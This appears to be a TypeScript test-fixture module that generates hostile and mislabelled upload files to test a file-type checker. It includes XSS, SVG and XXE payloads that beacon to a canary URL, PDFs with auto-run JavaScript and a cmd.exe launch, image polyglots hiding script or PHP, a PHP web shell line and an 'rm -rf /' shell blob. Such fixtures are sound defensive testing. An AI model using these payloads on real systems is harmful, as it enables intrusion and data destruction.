/**
 * Files that would run something if anybody let them, and files that are not what they are called: plain ones, and ones that are a valid picture or PDF and
 * something else at once. All invented here.
 */
import sharp from 'sharp';
import type { HonestFile } from './honest-files.ts';
import { htmlPage, pdfOf, svgPicture } from './hostile-files.ts';

export type Honest = 'application/pdf' | 'image/jpeg' | 'image/png';
export interface ActiveFile { name: string; bytes: Buffer; /** what a careful reader takes it for; null: nothing we take */ truth: Honest | null }

const EXTENSION: Record<Honest, string> = { 'application/pdf': 'pdf', 'image/jpeg': 'jpg', 'image/png': 'png' };

/** HTML that says so at `canary` when it runs, in the ways that are known to get past those who look for one of them. */
export function pagesCalling(canary: string): Record<string, string> {
  const run = `new Image().src='${canary}';alert(1)`;
  return {
    script: `<script>${run}</script>`, image: `<img src=x onerror="${run}">`, svg: `<svg onload="${run}"></svg>`, body: `<body onload="${run}">x</body>`,
    details: `<details open ontoggle="${run}">x</details>`, video: `<video><source onerror="${run}"></video>`, frame: `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${canary}">`, form: `<form action="${canary}"><input name=a></form><script>document.forms[0].submit()</script>`,
    object: `<object data="data:text/html,<script>${run}</script>"></object>`, focus: `<input autofocus onfocus="${run}">`, style: `<style>@import '${canary}';</style>`,
    base: `<base href="${canary}"><script src="a.js"></script>`, link: `<link rel=stylesheet href="${canary}">`, xhtml: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
  };
}

function drawingsCalling(canary: string): Record<string, string> {
  const run = `new Image().src='${canary}';alert(1)`;
  const svg = (inside: string, more = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" ${more}>${inside}</svg>`;
  return {
    'svg-script': svg(`<script>${run}</script>`), 'svg-load': svg('', `onload="${run}"`), 'svg-foreign': svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body></foreignObject>`),
    'svg-animate': svg(`<animate onbegin="${run}" attributeName="x" dur="1s"/>`), 'svg-use': svg(`<use xlink:href="data:image/svg+xml,${encodeURIComponent(svg(`<script>${run}</script>`))}#x"/>`),
    'xml-style': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}"?><a/>`, 'xml-entity': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "${canary}">]><a>&x;</a>`,
  };
}

/** A PDF of one page that asks its reader to run or open something. */
function pdfsCalling(canary: string): Record<string, Buffer> {
  const pdf = (catalog: string, ...more: string[]) => pdfOf([`<</Type/Catalog/Pages 2 0 R${catalog}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 400]/Resources<<>>>>', ...more]);
  return {
    'pdf-open-javascript': pdf(`/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('${canary}'))>>`), 'pdf-open-address': pdf(`/OpenAction<</S/URI/URI(${canary})>>`),
    'pdf-launch': pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'pdf-names': pdf('/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', `<</S/JavaScript/JS(app.launchURL('${canary}',true))>>`),
    'pdf-html': Buffer.concat([pdf(''), Buffer.from(`\n${pagesCalling(canary).script ?? ''}\n`)]),
  };
}

/** Every active file there is, each under the names of what we take: what is refused harms nobody, what is taken must not run. */
export async function activeFiles(canary: string): Promise<ActiveFile[]> {
  const picture = sharp({ create: { width: 900, height: 600, channels: 3, background: '#ddd' } }).composite([{ input: Buffer.from('<svg width="900" height="600"><text x="60" y="300" font-size="80">Contoh</text></svg>') }]);
  const [jpeg, png] = await Promise.all([picture.clone().jpeg().toBuffer(), picture.clone().png().toBuffer()]);
  const script = pagesCalling(canary).script ?? '';
  const plain: Record<string, Buffer> = {
    ...Object.fromEntries(Object.entries({ ...pagesCalling(canary), ...drawingsCalling(canary) }).map(([name, text]) => [name, Buffer.from(text)])),
    'gif-script': Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;new Image().src='${canary}'`)]), 'bmp-script': Buffer.from(`BM=1;new Image().src='${canary}'`),
    php: Buffer.from('<?php system($_GET["c"]); ?>'), 'office-zip': Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(60)]), exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), elf: Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(200)]),
  };
  const dressed: [string, Buffer, Honest][] = [
    ['jpeg-tail', Buffer.concat([jpeg, Buffer.from(script)]), 'image/jpeg'], ['jpeg-comment', withComment(jpeg, script), 'image/jpeg'], ['jpeg-zip', Buffer.concat([jpeg, Buffer.from('PK\u0003\u0004<?php echo 1; ?>')]), 'image/jpeg'],
    ['jpeg-exif', await sharp(jpeg).withExif({ IFD0: { ImageDescription: script, Copyright: '<?php echo 1; ?>' } }).toBuffer(), 'image/jpeg'],
    ['png-tail', Buffer.concat([png, Buffer.from(script)]), 'image/png'], ['png-pdf', Buffer.concat([png, Buffer.from('%PDF-1.7 /OpenAction')]), 'image/png'],
    ...Object.entries(pdfsCalling(canary)).map(([name, bytes]): [string, Buffer, Honest] => [name, bytes, 'application/pdf']),
  ];
  return [
    ...Object.entries(plain).flatMap(([name, bytes]) => ['pdf', 'jpg', 'png'].map((extension): ActiveFile => ({ name: `${name}.${extension}`, bytes, truth: null }))),
    ...dressed.map(([name, bytes, truth]): ActiveFile => ({ name: `${name}.${EXTENSION[truth]}`, bytes, truth })),
  ];
}

/** As `COM` behind the first marker of a JPEG. */
function withComment(jpeg: Buffer, text: string): Buffer {
  const comment = Buffer.from(text);
  const head = Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 255]);
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)]);
}

/** What a file is called against what it is: honest and foreign contents, and `carried` ones of other makers, under every name, each with a declared type that lies. */
export async function confusedFiles(carried: readonly HonestFile[]): Promise<(ActiveFile & { declared: string; taken: boolean })[]> {
  const flat = sharp({ create: { width: 900, height: 600, channels: 3, background: '#ddd' } });
  const contents: [Buffer, Honest | null][] = [
    [await flat.clone().jpeg().toBuffer(), 'image/jpeg'], [await flat.clone().png().toBuffer(), 'image/png'],
    [pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 400]/Resources<<>>>>']), 'application/pdf'],
    [htmlPage(), null], [svgPicture(), null], [await flat.clone().webp().toBuffer(), null], [await flat.clone().gif().toBuffer(), null], [await flat.clone().tiff().toBuffer(), null],
    ...carried.map(({ name, bytes }): [Buffer, Honest] => [bytes, /pdf$/i.test(name) ? 'application/pdf' : /png$/i.test(name) ? 'image/png' : 'image/jpeg']),
    [Buffer.from('PK\u0003\u0004' + 'x'.repeat(100)), null], [Buffer.from('MZ' + '\0'.repeat(100)), null], [Buffer.from('#!/bin/sh\nrm -rf /\n'), null], [Buffer.alloc(10, 32), null], [Buffer.from('{"a":1}'), null],
  ];
  /** Whether something may come under that name at all; as what it is taken its content says. */
  const names: [string, boolean][] = [
    ['a.pdf', true], ['a.jpg', true], ['a.JPEG', true], ['a.png', true], ['a.jfif', true], ['a.html', false], ['a.svg', false], ['a.php', false], ['a.jpg.php', false], ['a.php.jpg', true], ['a', true], ['a.pdf.exe', false],
  ];
  return contents.flatMap(([bytes, truth], n) => names.map(([name, allowed], m) => ({ name, bytes, truth, declared: ['text/html', 'image/svg+xml', 'application/pdf', 'image/png', ''][(n + m) % 5] ?? '', taken: truth !== null && allowed })));
}
